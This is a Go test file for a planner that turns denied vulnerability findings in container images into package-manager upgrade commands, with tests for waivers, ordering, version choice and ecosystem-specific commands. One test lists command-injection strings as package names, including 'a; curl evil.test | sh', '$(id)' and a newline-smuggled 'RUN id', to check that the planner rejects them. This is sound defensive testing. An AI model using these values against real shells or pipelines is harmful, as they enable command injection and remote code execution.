package remedy

import (
	"fmt"
	"math/rand/v2"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vetoci/veto/engine"
	"github.com/vetoci/veto/engine/version"
)

func finding(ref, typ, ecosystem, name, installed, layer string, fixes ...string) engine.Finding {
	return engine.Finding{Kind: "vulnerability", ID: "CVE-" + ref, Ref: ref, Layer: engine.Maybe(layer), FixedVersions: fixes,
		Package: engine.FoundPackage{
			Name: name, Version: installed, Type: typ, Ecosystem: engine.Maybe(ecosystem), Binaries: []string{"lib" + name},
		}}
}

// builtFrom returns one installed package for each source package.
func builtFrom(typ, layer string, sources ...string) (out []engine.Package) {
	for _, s := range sources {
		out = append(out, engine.Package{Type: typ, Layer: engine.Maybe(layer), Source: engine.Source{Name: s}})
	}
	return out
}

func denying(refs ...string) []engine.RuleResult {
	r := engine.RuleResult{ID: "vuln-fixable", Status: engine.StatusDeny}
	for _, ref := range refs {
		r.Results = append(r.Results, engine.Result{Msg: ref, Findings: []string{ref}})
	}
	return []engine.RuleResult{r}
}

func TestPlan(t *testing.T) {
	f := &engine.Facts{
		Layers: []engine.LayerInfo{{Index: 1, DiffID: "a"}, {Index: 2, DiffID: "b"}},
		Findings: []engine.Finding{
			finding("1", "deb", "Debian:12", "curl", "7.88.1-10", "a", "7.88.1-10+deb12u4"),
			finding("2", "deb", "Debian:12", "curl", "7.88.1-10", "a", "7.88.1-10+deb12u14"),
			finding("3", "deb", "Debian:12", "nofix", "1", "a"),
			finding("4", "npm", "npm", "lodash", "4.17.11", "b", "4.17.21", "3.10.2"),
			finding("5", "npm", "npm", "minimist", "1.2.0", "b", "0.2.1", "1.2.3", "1.2.6"),
			finding("6", "golang", "Go", "golang.org/x/net", "v0.7.0", "b", "0.17.0"),
			finding("7", "golang", "Go", "stdlib", "1.21.1", "b", "1.20.10", "1.21.3"),
			finding("8", "npm", "npm", "notdenied", "1.0.0", "b", "2.0.0"),
			finding("9", "pypi", "PyPI", "django", "3.2.4", "b", "3.2.25", "4.2.11"),
		},
		Packages: builtFrom("deb", "a", "curl", "nofix"),
	}
	got := map[string]string{}
	for _, c := range Plan(f, denying("1", "2", "3", "4", "5", "6", "7", "9")) {
		got[c.Kind] = fmt.Sprintf("%s %v: %s", c.Layer, c.Findings, c.Command)
	}
	want := map[string]string{
		"deb":    "a [1 2]: RUN apt-get update && apt-get install -y --only-upgrade libcurl",
		"npm":    "b [4 5]: npm install lodash@4.17.21 minimist@1.2.3",
		"golang": "b [6 7]: go get golang.org/x/net@v0.17.0; build with Go 1.21.3",
		"pypi":   "b [9]: pip install 'django>=3.2.25'",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// A result that is waived, or only warns, needs no change. Otherwise a plan would ask for work that somebody has decided against.
func TestPlanLeavesWaivedAlone(t *testing.T) {
	f := &engine.Facts{Findings: []engine.Finding{finding("1", "npm", "npm", "a", "1.0.0", "b", "2.0.0")}}
	rules := denying("1")
	rules[0].Results[0].WaivedBy = "w1"
	if got := Plan(f, rules); len(got) != 0 {
		t.Errorf("a waived result: %+v", got)
	}
	rules = denying("1")
	rules[0].Status = engine.StatusWarn
	if got := Plan(f, rules); len(got) != 0 {
		t.Errorf("a warning: %+v", got)
	}
}

// The waived findings of a result need no change, unless the rule takes no waivers.
func TestPlanLeavesWaivedFindingsAlone(t *testing.T) {
	f := &engine.Facts{Findings: []engine.Finding{
		finding("1", "npm", "npm", "a", "1.0.0", "b", "2.0.0"),
		finding("2", "npm", "npm", "c", "1.0.0", "b", "1.5.0"),
	}}
	f.Findings[0].WaivedBy = "w1"
	for waivable, want := range map[bool]string{true: "npm install c@1.5.0", false: "npm install a@2.0.0 c@1.5.0"} {
		rules := []engine.RuleResult{{
			ID: "r", Status: engine.StatusDeny, Waivable: waivable, Results: []engine.Result{{Findings: []string{"1", "2"}}},
		}}
		if got := Plan(f, rules); len(got) != 1 || got[0].Command != want {
			t.Errorf("waivable %v: %+v, want %s", waivable, got, want)
		}
	}
}

// People paste commands: nothing from an image or an advisory gets into one that a shell would take for more than a word.
func TestPlanWritesPlainWords(t *testing.T) {
	for _, word := range []string{
		"a; curl evil.test | sh", "$(id)", "`id`", "a b", "a'b", "--unsafe-perm", "-g", "a\nRUN id", "a>b", "a&b", "", "\x1b[31m", "a\\b",
		"é", "~root", "a*", "{a,b}", "#a", "!1",
	} {
		bad := finding("2", "npm", "npm", word, "1.0.0", "b", "2.0.0")
		binary := finding("3", "deb", "Debian:12", "src", "1", "b", "2")
		binary.Package.Binaries = []string{"ok", word}
		f := &engine.Facts{Findings: []engine.Finding{finding("1", "npm", "npm", "@scope/good.js", "1.0.0", "b", "2.0.0"), bad, binary}}
		got := Plan(f, denying("1", "2", "3"))
		if len(got) != 1 || got[0].Command != "npm install @scope/good.js@2.0.0" || fmt.Sprint(got[0].Findings) != "[1]" {
			t.Errorf("%q: %+v", word, got)
		}
	}
	for _, word := range []string{
		"libstdc++6", "@types/node", "golang.org/x/net", "ruamel.yaml.clib", "2:8.39-15~deb12u1",
		"v1.2.3-0.20230101-abc+incompatible", "gopkg.in/yaml.v2", "_x",
	} {
		if !safeInCommand(&engine.Finding{Package: engine.FoundPackage{Name: word}}, word) {
			t.Errorf("%s is a good name", word)
		}
	}
}

// A command names a package that is installed twice only once, and a source package without known binaries by its own name.
func TestPlanNamesAPackageOnce(t *testing.T) {
	bare := finding("4", "deb", "Debian:12", "curl", "1", "b", "2")
	bare.Package.Binaries = nil
	f := &engine.Facts{
		Findings: []engine.Finding{
			finding("1", "golang", "Go", "golang.org/x/net", "v0.9.0", "b", "0.10.0"),
			finding("2", "golang", "Go", "golang.org/x/net", "v0.7.0", "b", "0.9.0"),
			finding("3", "golang", "Go", "stdlib", "1.9.1", "b", "1.10.0"),
			finding("5", "golang", "Go", "stdlib", "1.21.1", "b", "1.21.3"),
			bare,
		},
		Packages: builtFrom("deb", "b", "curl", "x"),
	}
	var got []string
	for _, c := range Plan(f, denying("1", "2", "3", "4", "5")) {
		got = append(got, fmt.Sprintf("%s (%d)", c.Command, len(c.Upgrades)))
	}
	want := []string{
		"go get golang.org/x/net@v0.10.0; build with Go 1.21.3 (4)",
		"RUN apt-get update && apt-get install -y --only-upgrade curl (1)",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// Every upgrade goes up, and reaches a fix of each finding that its change clears. The order of the findings changes nothing.
func TestPlanReachesWhatItClears(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	v := func() string { return fmt.Sprintf("%d.%d.%d", r.IntN(3), r.IntN(4), r.IntN(10)) }
	for range 300 {
		f := &engine.Facts{}
		var refs []string
		installed := map[string]string{}
		for i := range 1 + r.IntN(20) {
			name := string(rune('a' + r.IntN(4)))
			if installed[name] == "" {
				installed[name] = v()
			}
			var fixes []string
			for range r.IntN(3) {
				fixes = append(fixes, v())
			}
			refs = append(refs, fmt.Sprint(i))
			f.Findings = append(f.Findings, finding(fmt.Sprint(i), "npm", "npm", name, installed[name], "l", fixes...))
		}
		changes := Plan(f, denying(refs...))
		for _, c := range changes {
			to := map[string]string{}
			for _, u := range c.Upgrades {
				to[u.Package] = u.To
				if n, err := version.Compare("npm", u.To, u.From); err != nil || n <= 0 {
					t.Fatalf("%s goes from %s to %s (%v)", u.Package, u.From, u.To, err)
				}
			}
			for _, ref := range c.Findings {
				if !clears(t, f, ref, to) {
					t.Fatalf("finding %s is not cleared by %+v", ref, c)
				}
			}
		}
		r.Shuffle(len(f.Findings), func(i, j int) { f.Findings[i], f.Findings[j] = f.Findings[j], f.Findings[i] })
		if diff := cmp.Diff(changes, Plan(f, denying(refs...))); diff != "" {
			t.Fatalf("another order, another plan (-want +got):\n%s", diff)
		}
	}
}

func clears(t *testing.T, f *engine.Facts, ref string, to map[string]string) bool {
	t.Helper()
	for _, v := range f.Findings {
		for _, fix := range v.FixedVersions {
			up, err := version.Compare("npm", fix, v.Package.Version)
			if err != nil {
				t.Fatal(err)
			}
			if n, err := version.Compare("npm", to[v.Package.Name], fix); v.Ref == ref && up > 0 && err == nil && n >= 0 {
				return true
			}
		}
	}
	return false
}

func TestCommands(t *testing.T) {
	for _, c := range []struct{ typ, ecosystem, name, from, to, want string }{
		{"rpm", "AlmaLinux:9", "curl", "7.76.1-1.el9", "7.76.1-2.el9", "RUN dnf upgrade -y libcurl"},
		{"rpm", "openSUSE:Leap 15.5", "curl", "7.76.1-1", "7.76.1-2", "RUN zypper --non-interactive update libcurl"},
		{"rpm", "Photon OS:5.0", "curl", "7.76.1-1", "7.76.1-2", "RUN tdnf update -y libcurl"},
		{"gem", "RubyGems", "rack", "2.2.3", "2.2.4", "bundle update --conservative rack"},
		{"composer", "Packagist", "guzzlehttp/psr7", "1.8.3", "1.8.4", "composer require --with-all-dependencies 'guzzlehttp/psr7:^1.8.4'"},
		{"cargo", "crates.io", "time", "0.1.44", "0.2.23", "cargo update time --precise 0.2.23"},
		{"nuget", "NuGet", "Newtonsoft.Json", "12.0.3", "13.0.1", "dotnet add package Newtonsoft.Json --version 13.0.1"},
		{"maven", "Maven", "org.apache.logging.log4j:log4j-core", "2.14.1", "2.17.1",
			"mvn versions:use-dep-version -Dincludes=org.apache.logging.log4j:log4j-core -DdepVersion=2.17.1"},
		{"hex", "Hex", "plug", "1.0.0", "1.0.4", "mix deps.update plug"},
		{"pub", "Pub", "http", "0.13.0", "0.13.3", "dart pub upgrade http"},
		{"generic", "Bitnami", "redis", "6.2.0", "6.2.7", "upgrade redis to 6.2.7"},
	} {
		f := &engine.Facts{
			Findings: []engine.Finding{finding("1", c.typ, c.ecosystem, c.name, c.from, "a", c.to)},
			Packages: builtFrom(c.typ, "a", c.name, "another"),
		}
		got := Plan(f, denying("1"))
		if len(got) != 1 || got[0].Command != c.want {
			t.Errorf("%s: %+v, want %s", c.typ, got, c.want)
		}
	}
}

// installedFindings makes n findings, each of one package with one fix, in one layer.
func installedFindings(n int, typ, ecosystem, layer string) (findings []engine.Finding, refs []string) {
	for i := range n {
		ref := fmt.Sprint(layer, typ, i)
		findings = append(findings, finding(ref, typ, ecosystem, fmt.Sprint("p", i), "1.0.0", layer, "2.0.0"))
		refs = append(refs, ref)
	}
	return findings, refs
}

// The package manager of a distribution is told to upgrade everything from five upgrades on, or when they are more than half of what is
// installed; below that a command names each package, so that nothing else changes.
func TestPlanUpgradesEverything(t *testing.T) {
	for _, c := range []struct {
		typ, ecosystem     string
		upgrades, packages int
		want               string
	}{
		{"deb", "Debian:12", 4, 8, "RUN apt-get update && apt-get install -y --only-upgrade libp0 libp1 libp2 libp3"},
		{"deb", "Debian:12", 4, 7, "RUN apt-get update && apt-get upgrade -y"},
		{"deb", "Debian:12", 5, 100, "RUN apt-get update && apt-get upgrade -y"},
		{"apk", "Alpine:v3.20", 2, 4, "RUN apk add --no-cache --upgrade libp0 libp1"},
		{"apk", "Alpine:v3.20", 2, 3, "RUN apk upgrade --no-cache"},
		{"rpm", "AlmaLinux:9", 1, 2, "RUN dnf upgrade -y libp0"},
		{"rpm", "AlmaLinux:9", 1, 1, "RUN dnf upgrade -y"},
		{"rpm", "SUSE:15", 1, 1, "RUN zypper --non-interactive update"},
		{"rpm", "Azure Linux:3", 5, 100, "RUN tdnf update -y"},
		{"alpm", "", 1, 100, "RUN pacman -Syu --noconfirm"},
	} {
		findings, refs := installedFindings(c.upgrades, c.typ, c.ecosystem, "a")
		var sources []string
		for i := range c.packages {
			sources = append(sources, fmt.Sprint("p", i))
		}
		f := &engine.Facts{Findings: findings, Packages: builtFrom(c.typ, "a", sources...)}
		f.Packages = append(f.Packages, builtFrom(c.typ, "another layer", "x", "y", "z")...)
		f.Packages = append(f.Packages, builtFrom("another type", "a", "x", "y", "z")...)
		f.Packages = append(f.Packages, f.Packages...) // binary packages of one source
		if c.typ == "alpm" {
			for i := range f.Findings {
				f.Findings[i].Package.Ecosystem = "Debian:12" // a type without an order of its own here
			}
		}
		if got := Plan(f, denying(refs...)); len(got) != 1 || got[0].Command != c.want {
			t.Errorf("%d upgrades of %d %s packages: %+v, want %s", c.upgrades, c.packages, c.typ, got, c.want)
		}
	}
}

// Changes stand in the order of what they clear, then of layers, then of kinds; a report without an order would differ from run to run.
func TestPlanOrder(t *testing.T) {
	f := &engine.Facts{Layers: []engine.LayerInfo{{Index: 1, DiffID: "z"}, {Index: 2, DiffID: "a"}}}
	var refs []string
	for _, c := range []struct {
		n                      int
		typ, ecosystem, diffID string
	}{{1, "pypi", "PyPI", "a"}, {1, "npm", "npm", "a"}, {1, "npm", "npm", "z"}, {3, "gem", "RubyGems", "a"}, {2, "cargo", "crates.io", "z"}} {
		findings, more := installedFindings(c.n, c.typ, c.ecosystem, c.diffID)
		f.Findings, refs = append(f.Findings, findings...), append(refs, more...)
	}
	for range 5 { // groups are kept in a map
		got := ""
		for _, c := range Plan(f, denying(refs...)) {
			got += fmt.Sprintf("%s of %s clears %d; ", c.Kind, c.Layer, len(c.Findings))
		}
		want := "gem of a clears 3; cargo of z clears 2; npm of z clears 1; npm of a clears 1; pypi of a clears 1; "
		if got != want {
			t.Fatalf("%s\nwant %s", got, want)
		}
	}
}

// A change says each upgrade once, from the installed version to the least version that clears all of its findings, in the order of names
// and versions. A fix that is no version, or not later than what is installed, is none.
func TestPlanUpgrades(t *testing.T) {
	f := &engine.Facts{Findings: []engine.Finding{
		finding("6", "npm", "npm", "b", "1.0.0", "l", "1.2.0", "1.1.0"),
		finding("5", "npm", "npm", "b", "1.0.0", "l", "1.0.5"),
		finding("4", "npm", "npm", "a", "3.0.0", "l", "2.9.9", "3.0.0", "no version", "3.0.1"),
		finding("3", "npm", "npm", "a", "2.0.0", "l", "2.9.9"),
		finding("2", "npm", "npm", "c", "2.0.0", "l", "no version", "1.9.9", "2.0.0"),
		finding("1", "npm", "npm", "a", "2.0.0", "l", "2.8.0"),
	}}
	got := Plan(f, denying("1", "2", "3", "4", "5", "6"))
	want := []engine.Change{{
		Layer: "l", Kind: "npm", Command: "npm install a@3.0.1 b@1.1.0", Findings: []string{"1", "3", "4", "5", "6"},
		Upgrades: []engine.Upgrade{
			{Package: "a", From: "2.0.0", To: "2.9.9"}, {Package: "a", From: "3.0.0", To: "3.0.1"}, {Package: "b", From: "1.0.0", To: "1.1.0"},
		},
	}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// A command that names two binary packages of one source package twice, or in an order of chance, is not what anybody pastes.
func TestPlanSortsBinaries(t *testing.T) {
	one, two := finding("1", "deb", "Debian:12", "curl", "1", "a", "2"), finding("2", "deb", "Debian:12", "apt", "1", "a", "2")
	one.Package.Binaries, two.Package.Binaries = []string{"libcurl4", "curl"}, []string{"libapt", "curl"}
	f := &engine.Facts{Findings: []engine.Finding{one, two}, Packages: builtFrom("deb", "a", "curl", "apt", "x", "y")}
	want := "RUN apt-get update && apt-get install -y --only-upgrade curl libapt libcurl4"
	if got := Plan(f, denying("1", "2")); len(got) != 1 || got[0].Command != want {
		t.Errorf("%+v, want %s", got, want)
	}
}

// Both parts of a Go toolchain come with one release, and are asked for once.
func TestPlanOfGo(t *testing.T) {
	for want, findings := range map[string][]engine.Finding{
		"build with Go 1.21.3": {
			finding("1", "golang", "Go", "stdlib", "1.21.1", "a", "1.21.3"),
			finding("2", "golang", "Go", "toolchain", "1.21.1", "a", "1.21.3"),
		},
		"go get a.test/x@v1.1.0 b.test/y@v1.2.0": {
			finding("1", "golang", "Go", "b.test/y", "v1.0.0", "a", "v1.2.0"),
			finding("2", "golang", "Go", "a.test/x", "v1.0.0", "a", "1.1.0"),
		},
	} {
		if got := Plan(&engine.Facts{Findings: findings}, denying("1", "2")); len(got) != 1 || got[0].Command != want {
			t.Errorf("%+v, want %s", got, want)
		}
	}
}
